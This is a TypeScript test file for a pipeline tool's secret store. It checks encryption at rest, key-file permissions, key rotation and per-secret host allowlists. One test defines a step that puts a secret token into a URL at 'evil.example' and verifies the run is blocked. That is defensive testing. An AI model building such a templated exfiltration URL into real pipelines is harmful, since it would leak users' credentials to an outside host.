import { randomBytes } from 'node:crypto';
import { chmod, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Sql } from 'postgres';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { ActionError, type SettingName } from '@/engine';
import { catalogue } from '@/engine/actions';
import { addSecretInput, changeSecretInput } from '@/lib/contracts/secrets';
import { addTriggerInput } from '@/lib/contracts/triggers';
import type { AppConfig } from '../../app-options';
import { type App, compose } from '../../compose';
import { KeyRing } from '../../secrets/key-ring';
import { formatMasterKey, type MasterKey, newMasterKey, parseMasterKeys } from '../../secrets/master-key';
import { reencryptSecrets } from '../../secrets/rotate';
import { createSecretStore } from '../../secrets/store';
import { findSecret } from '../../store/secrets';
import { TEST_CONFIG } from '../../testing/app';
import { createTestDatabase, type TestDatabase } from '../../testing/database';

const CANARY = 'canary-Zq7Xw93kd-"&é';
const NO_CLOSE = async () => undefined;

let database: TestDatabase;
let dataDir: string;
let open: App[] = [];

beforeAll(async () => {
  database = await createTestDatabase();
});
afterAll(() => database.close());
beforeEach(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'pipewright-secrets-'));
});
afterEach(async () => {
  await Promise.all(open.map((app) => app.close()));
  open = [];
  await database.sql`delete from secrets`;
  await rm(dataDir, { recursive: true, force: true });
});

/** A server whose data folder is the test's; what goes wrong beside a request is an error of the test. */
async function start(config: Partial<AppConfig> = {}): Promise<App> {
  const settings: AppConfig = {
    ...TEST_CONFIG,
    databaseUrl: 'postgres://elsewhere',
    dataDir,
    hosts: [],
    runsWorker: false,
    masterKeys: [],
    ...config,
  };
  const report = (error: unknown, what: string) => {
    throw new Error(what, { cause: error });
  };
  const app = await compose(settings, { sql: database.sql, close: NO_CLOSE }, { catalogue, report });
  open.push(app);
  return app;
}

const STORE = { now: () => new Date(), report: () => undefined };

/** A database that is gone after so many statements, as for a process that is killed between two of them. */
function cutOff(sql: Sql, statements: number): Sql {
  let left = statements;
  const unsafe: Sql['unsafe'] = (query, ...more) => {
    if (query.startsWith('update "secrets"')) left -= 1;
    if (left < 0) throw new Error('cut off');
    return sql.unsafe(query, ...more);
  };
  return new Proxy(sql, {
    get: (target, name) => (name === 'unsafe' ? unsafe : Reflect.get(target, name)),
  });
}

const keyFile = () => join(dataDir, 'secret.key');
const add = (app: App, name: string, more: { value?: string; hosts?: string[]; description?: string } = {}) =>
  app.secrets.add(addSecretInput.parse({ name, value: CANARY, ...more }));
const reveal = async (app: App, name: string) => (await app.world.secrets.reveal(name))?.value;

describe('a secret', () => {
  test('is stored, passed to an attempt with its hosts, and never listed with its value', async () => {
    const app = await start();
    await add(app, 'token', {
      hosts: ['API.example.org', 'api.example.org', '*.b.org'],
      description: ' For tests ',
    });
    expect(await app.world.secrets.reveal('token')).toEqual({
      name: 'token',
      value: CANARY,
      hosts: ['api.example.org', '*.b.org'],
    });
    const [listed] = await app.secrets.list();
    expect(listed).toMatchObject({ name: 'token', description: 'For tests', usedBy: [], problem: null });
    expect(JSON.stringify([listed, await app.secrets.names()])).not.toContain('canary');
    expect(await reveal(app, 'other')).toBeUndefined();
  });

  test('is nowhere in the database as plain text', async () => {
    const app = await start();
    await add(app, 'token');
    await app.world.secrets.reveal('token');
    const [row] = await database.sql`
      select s::text as text, encode(ciphertext, 'escape') as bytes, encode(wrapped_key, 'hex') as key from secrets s`;
    const dump = JSON.stringify(row);
    for (const form of [
      CANARY,
      Buffer.from(CANARY).toString('hex'),
      Buffer.from(CANARY).toString('base64'),
    ]) {
      expect(dump).not.toContain(form.slice(0, 8));
    }
  });

  test('is not replaced by one of the same name', async () => {
    const app = await start();
    await add(app, 'token');
    await expect(add(app, 'token', { value: 'another value' })).rejects.toMatchObject({ code: 'conflict' });
    expect(await reveal(app, 'token')).toBe(CANARY);
  });

  test('keeps its value when only other fields change, and its hosts when only its value changes', async () => {
    const app = await start();
    await add(app, 'token', { hosts: ['a.org'] });
    const change = (more: object) =>
      app.secrets.change(
        changeSecretInput.parse({ name: 'token', description: '', hosts: ['a.org'], ...more }),
      );
    await change({ description: 'Said' });
    await change({ description: 'Said', hosts: ['b.org'] });
    expect(await app.world.secrets.reveal('token')).toMatchObject({ value: CANARY, hosts: ['b.org'] });
    await change({ value: 'another value', hosts: ['b.org'] });
    expect(await app.world.secrets.reveal('token')).toMatchObject({
      value: 'another value',
      hosts: ['b.org'],
    });
    await expect(
      app.secrets.change(changeSecretInput.parse({ name: 'nobody', description: '', hosts: [] })),
    ).rejects.toMatchObject({ code: 'not_found' });
  });

  test('lists the pipelines that refer to it, and can be deleted', async () => {
    const app = await start();
    await add(app, 'token');
    const steps = [
      {
        id: 'a',
        action: 'http_request',
        params: { url: 'https://x.org', headers: { k: '{{secrets.token}}' } },
      },
    ];
    const { id } = await app.pipelines.create({ text: JSON.stringify({ name: 'Uses it', steps }) });
    await app.pipelines.create({ text: JSON.stringify({ name: 'Says secrets only', steps: [] }) });
    expect((await app.secrets.list())[0]?.usedBy).toEqual([{ id, name: 'Uses it' }]);
    await app.secrets.remove({ name: 'token' });
    expect(await app.secrets.list()).toEqual([]);
    await expect(app.secrets.remove({ name: 'token' })).rejects.toMatchObject({ code: 'not_found' });
  });

  test('blocks a run of a pipeline that would send it to a host that is not on its list', async () => {
    const app = await start();
    await add(app, 'token');
    const steps = [
      { id: 'a', action: 'http_request', params: { url: 'https://evil.example/{{secrets.token}}' } },
    ];
    const { id } = await app.pipelines.create({ text: JSON.stringify({ name: 'P', steps }) });
    await expect(app.runs.start({ pipelineId: id })).resolves.toMatchObject({ number: 1 });
    await app.secrets.change(
      changeSecretInput.parse({ name: 'token', description: '', hosts: ['api.example.org'] }),
    );
    await expect(app.runs.start({ pipelineId: id })).rejects.toMatchObject({
      code: 'invalid',
      message: expect.stringContaining('is allowed only for api.example.org, not for evil.example'),
    });
    const { id: imported } = await app.pipelines.create({ text: JSON.stringify({ name: 'Q', steps }) });
    const found = (await app.pipelines.list()).find((pipeline) => pipeline.id === imported);
    expect(found?.problemCount).toBe(1);
  });

  test('shows when it was last used, to the minute', async () => {
    const app = await start();
    await add(app, 'token');
    const keys = new KeyRing({ keys: [], file: keyFile(), log: () => undefined });
    let now = new Date('2026-11-21T10:00:00Z');
    const store = createSecretStore({ sql: database.sql, keys, now: () => now, report: () => undefined });
    const used = async () => (await app.secrets.list())[0]?.lastUsedAt;
    expect(await used()).toBeNull();
    await store.reveal('token');
    now = new Date('2026-11-21T10:00:59Z');
    await store.reveal('token');
    expect(await used()).toBe('2026-11-21T10:00:00.000Z');
    now = new Date('2026-11-21T10:01:00Z');
    await store.reveal('token');
    expect(await used()).toBe('2026-11-21T10:01:00.000Z');
  });

  test('cannot be given other hosts in the database', async () => {
    const app = await start();
    await add(app, 'token', { hosts: ['api.example.org'] });
    await add(app, 'other', { value: 'another value' });
    await database.sql`update secrets set allowed_hosts = '{}' where name = 'token'`;
    await expect(reveal(app, 'token')).rejects.toThrow(/The secret token cannot be decrypted with the key /);
    await database.sql`
      update secrets t set ciphertext = o.ciphertext, iv = o.iv, tag = o.tag, wrapped_key = o.wrapped_key
      from secrets o where t.name = 'token' and o.name = 'other'`;
    await expect(reveal(app, 'token')).rejects.toThrow(ActionError);
    expect(await reveal(app, 'other')).toBe('another value');
  });
});

describe('the key file', () => {
  test('is created with the first secret, readable only by its owner, outside the database', async () => {
    const app = await start();
    expect(await readdir(dataDir)).toEqual([]);
    await add(app, 'token');
    expect((await stat(keyFile())).mode & 0o777).toBe(0o600);
    expect(await readdir(dataDir)).toEqual(['secret.key']);
    expect(await reveal(await start(), 'token')).toBe(CANARY);
  });

  test('is created once by concurrent processes', async () => {
    const apps = await Promise.all([start(), start(), start()]);
    await Promise.all(apps.flatMap((app, at) => [add(app, `a${at}`), add(app, `b${at}`)]));
    const fresh = await start();
    const listed = await fresh.secrets.list();
    expect(listed).toHaveLength(6);
    expect(listed.every(({ problem }) => problem === null)).toBe(true);
    expect(await readdir(dataDir)).toEqual(['secret.key']);
  });

  test('gets restricted permissions when others could read it, which is logged', async () => {
    await add(await start(), 'token');
    await chmod(keyFile(), 0o644);
    const told: string[] = [];
    const keys = new KeyRing({ keys: [], file: keyFile(), log: (line) => told.push(line) });
    expect(await keys.current()).toBeDefined();
    expect((await stat(keyFile())).mode & 0o777).toBe(0o600);
    expect(told).toEqual([expect.stringContaining('could be read by others (mode 644)')]);
  });
});

describe('a lost or wrong key', () => {
  const [a, b]: MasterKey[] = [newMasterKey(), newMasterKey()];
  if (!a || !b) throw new Error('unreachable');
  const rowOf = (name: string) => findSecret(database.sql, name);

  test('leaves everything else working, is named, and overwrites nothing', async () => {
    await add(await start({ masterKeys: [a] }), 'token');
    const before = await rowOf('token');
    for (const masterKeys of [[b], []]) {
      const app = await start({ masterKeys });
      await expect(reveal(app, 'token')).rejects.toThrow(`it was encrypted with the key ${a.id}`);
      const [listed] = await app.secrets.list();
      expect(listed?.problem).toContain(a.id);
      expect(await app.pipelines.list()).toBeDefined();
      const hosts = { name: 'token', description: '', hosts: ['a.org'] };
      await expect(app.secrets.change(changeSecretInput.parse(hosts))).rejects.toMatchObject({
        code: 'unavailable',
      });
      expect(await rowOf('token')).toEqual(before);
    }
    expect(await reveal(await start({ masterKeys: [a] }), 'token')).toBe(CANARY);
  });

  test('prevents a new key until the secrets of the lost one are deleted', async () => {
    await add(await start(), 'token');
    const kept = await readFile(keyFile(), 'utf8');
    await rm(keyFile());
    const app = await start();
    await expect(add(app, 'second')).rejects.toThrow(
      /The secret was not stored: .* encrypted with the key k-/,
    );
    expect(await readdir(dataDir)).toEqual([]);
    await writeFile(keyFile(), kept, { mode: 0o600 });
    expect(await reveal(app, 'token')).toBe(CANARY);
    await rm(keyFile());
    const later = await start();
    await later.secrets.remove({ name: 'token' });
    await add(later, 'second');
    expect(await reveal(later, 'second')).toBe(CANARY);
  });

  test('is logged for an invalid key file, and the server starts', async () => {
    await add(await start({ masterKeys: [a] }), 'token');
    await writeFile(keyFile(), 'hunter2', { mode: 0o600 });
    const app = await start({ masterKeys: [b] }).catch((error: unknown) => error);
    expect(app).not.toBeInstanceOf(Error);
    const [listed] = await (app as App).secrets.list();
    expect(listed?.problem).toMatch(/The key file .*secret\.key must contain keys/);
    expect(listed?.problem).not.toContain('hunter2');
  });

  test('is resolved by setting the value again', async () => {
    await add(await start({ masterKeys: [a] }), 'token');
    const app = await start({ masterKeys: [b] });
    await app.secrets.change(
      changeSecretInput.parse({ name: 'token', value: 'another value', description: '', hosts: [] }),
    );
    expect(await reveal(app, 'token')).toBe('another value');
  });
});

describe('a new key', () => {
  test('encrypts, the old one still decrypts, and a start encrypts every secret with the new one', async () => {
    const [first, next] = [newMasterKey(), newMasterKey()];
    const old = await start({ masterKeys: [first] });
    for (let at = 0; at < 20; at += 1) await add(old, `s${at}`, { value: `${CANARY}${at}` });
    await start({ masterKeys: [next, first] });
    const keys = await database.sql`select distinct key_id as id from secrets`;
    expect(keys.map(({ id }) => id)).toEqual([next.id]);
    const after = await start({ masterKeys: [next] });
    expect(await reveal(after, 's7')).toBe(`${CANARY}7`);
    await expect(reveal(old, 's7')).rejects.toThrow(next.id);
  });

  test('loses nothing when the rotation is interrupted at any point', async () => {
    const keys = [newMasterKey(), newMasterKey()] as const;
    const ring = (first: MasterKey, second: MasterKey) =>
      new KeyRing({ keys: [first, second], file: keyFile(), log: () => undefined });
    const app = await start({ masterKeys: [keys[0]] });
    const count = 200;
    await Promise.all(
      Array.from({ length: count }, (_, at) => add(app, `s${at}`, { value: `${CANARY}${at}` })),
    );
    const seed = Date.now();
    const cuts: string[] = [];
    for (let round = 0; round < 20; round += 1) {
      const now = round % 2 === 0 ? ring(keys[1], keys[0]) : ring(keys[0], keys[1]);
      const statements = 1 + ((seed + round * 7919) % (count - 1));
      const cut = await reencryptSecrets(cutOff(database.sql, statements), now).catch((error) => error);
      if (cut instanceof Error) cuts.push(cut.message);
      const store = createSecretStore({ ...STORE, sql: database.sql, keys: now });
      for (const at of [0, 1, count / 2, count - 1]) {
        expect({ seed, value: (await store.reveal(`s${at}`))?.value }).toEqual({
          seed,
          value: `${CANARY}${at}`,
        });
      }
    }
    expect(new Set(cuts)).toEqual(new Set(['cut off']));
    const listed = await (await start({ masterKeys: [...keys] })).secrets.list();
    expect(listed.filter(({ problem }) => problem === null)).toHaveLength(count);
  });

  test('can move from the key file to PIPEWRIGHT_KEY when that lists both', async () => {
    await add(await start(), 'token');
    const [inFile] = parseMasterKeys(await readFile(keyFile(), 'utf8'));
    const next = newMasterKey();
    await start({ masterKeys: inFile ? [next, inFile] : [] });
    await rm(keyFile());
    expect(await reveal(await start({ masterKeys: [next] }), 'token')).toBe(CANARY);
  });

  test('set by mistake loses nothing: without it, every secret of the key file decrypts again', async () => {
    await add(await start(), 'token');
    const mistaken = await start({ masterKeys: [newMasterKey()] });
    expect(await reveal(mistaken, 'token')).toBe(CANARY);
    expect(await reveal(await start(), 'token')).toBe(CANARY);
  });

  test('set by mistake loses no webhook: without it, their addresses are shown again', async () => {
    const first = await start();
    const { id: pipelineId } = await first.pipelines.create({ name: 'Called' });
    const trigger = { type: 'webhook', name: 'Push', config: {} } as const;
    const { id, path } = await first.triggers.add(addTriggerInput.parse({ pipelineId, trigger }));
    expect(path).toContain(id);
    const shown = async (app: App) => (await app.triggers.list({ pipelineId })).map((each) => each.path);
    expect(await shown(await start({ masterKeys: [newMasterKey()] }))).toEqual([path]);
    const again = await start();
    expect(await shown(again)).toEqual([path]);
    await again.triggers.remove({ id });
  });

  test('does not change a secret whose key is missing', async () => {
    const [lost, first, next] = [newMasterKey(), newMasterKey(), newMasterKey()];
    await add(await start({ masterKeys: [lost] }), 'gone');
    await add(await start({ masterKeys: [first] }), 'here');
    await writeFile(keyFile(), formatMasterKey(first), { mode: 0o600 });
    const app = await start({ masterKeys: [next] });
    expect(await reveal(app, 'here')).toBe(CANARY);
    expect((await findSecret(database.sql, 'gone'))?.keyId).toBe(lost.id);
    expect(await reveal(await start({ masterKeys: [lost] }), 'gone')).toBe(CANARY);
  });
});

describe('settings of the channels', () => {
  const read = async (app: App, name: SettingName) => app.world.settings(name);

  test('come from stored settings, bound to their own host', async () => {
    const app = await start();
    expect(await read(app, 'smtp_url')).toBeUndefined();
    await app.channels.set({ name: 'smtp_url', value: 'smtp://me:hunter2hunter2@Mail.example.org:587' });
    await app.channels.set({ name: 'mail_from', value: 'Jo <jo@b.org>' });
    expect(await read(app, 'smtp_url')).toMatchObject({
      secret: { name: 'SMTP_URL', hosts: ['mail.example.org'] },
    });
    expect(await read(app, 'mail_from')).toEqual({ value: 'Jo <jo@b.org>' });
    const listed = await app.channels.list();
    expect(listed.find(({ name }) => name === 'smtp_url')).toMatchObject({
      from: 'here',
      shown: 'mail.example.org',
    });
    expect(listed.find(({ name }) => name === 'mail_from')).toMatchObject({ shown: 'Jo <jo@b.org>' });
    expect(listed.find(({ name }) => name === 'webhook_url')).toMatchObject({ from: 'nowhere', shown: null });
    expect(JSON.stringify(listed)).not.toContain('hunter2');
    await app.channels.set({ name: 'smtp_url', value: 'smtp://other.example.org' });
    expect(await read(app, 'smtp_url')).toMatchObject({ value: 'smtp://other.example.org' });
    await app.channels.clear({ name: 'smtp_url' });
    expect(await read(app, 'smtp_url')).toBeUndefined();
  });

  test('come first from the environment', async () => {
    const value = 'https://hooks.slack.com/services/T0/B0/XXXX';
    const app = await start({ settings: { slack_webhook_url: value } });
    expect(await read(app, 'slack_webhook_url')).toEqual({
      value,
      secret: { name: 'SLACK_WEBHOOK_URL', value, hosts: ['hooks.slack.com'] },
    });
    expect((await app.channels.list()).find(({ name }) => name === 'slack_webhook_url')).toMatchObject({
      from: 'environment',
      shown: 'hooks.slack.com',
    });
    await expect(app.channels.set({ name: 'slack_webhook_url', value })).rejects.toMatchObject({
      code: 'conflict',
    });
  });

  test.each<[SettingName, string]>([
    ['smtp_url', 'mail.example.org hunter2'],
    ['mail_from', 'nobody hunter2'],
    ['slack_webhook_url', 'hooks.slack.com/hunter2'],
    ['webhook_url', 'https://me:hunter2@example.org'],
    ['webhook_signing_key', 'hunter2'],
  ])('are refused when %s cannot use them, without repeating them', async (name, value) => {
    const app = await start();
    const refusal = await app.channels.set({ name, value }).catch((error: unknown) => error);
    expect(refusal).toMatchObject({ code: 'invalid' });
    expect(String(refusal)).not.toContain('hunter2');
  });
});

test('an invalid secret is refused with a reason', () => {
  const reasonOf = (input: object) =>
    addSecretInput.safeParse({ name: 'a', value: CANARY, ...input }).error?.issues[0]?.message;
  expect(reasonOf({ value: '1234567' })).toContain('cannot be masked');
  expect(reasonOf({ value: `${' '.repeat(20)}x` })).toContain('white space');
  expect(reasonOf({ value: randomBytes(40_000).toString('hex') })).toContain('Enter at most 65536');
  expect(reasonOf({ name: 'a-b' })).toContain('letters, digits and _');
  expect(reasonOf({ hosts: ['https://a.org'] })).toContain('without https:// and port');
  expect(reasonOf({ hosts: ['a.org:80'] })).toContain('is not a host');
  expect(reasonOf({ hosts: ['a.org/x', '*', '*.10.0.0.1'] })).toContain('is not a host');
  expect(
    addSecretInput.parse({ name: 'a', value: CANARY, hosts: ['Bücher.example.', '[::1]', '10.1'] }).hosts,
  ).toEqual(['xn--bcher-kva.example', '::1', '10.0.0.1']);
});
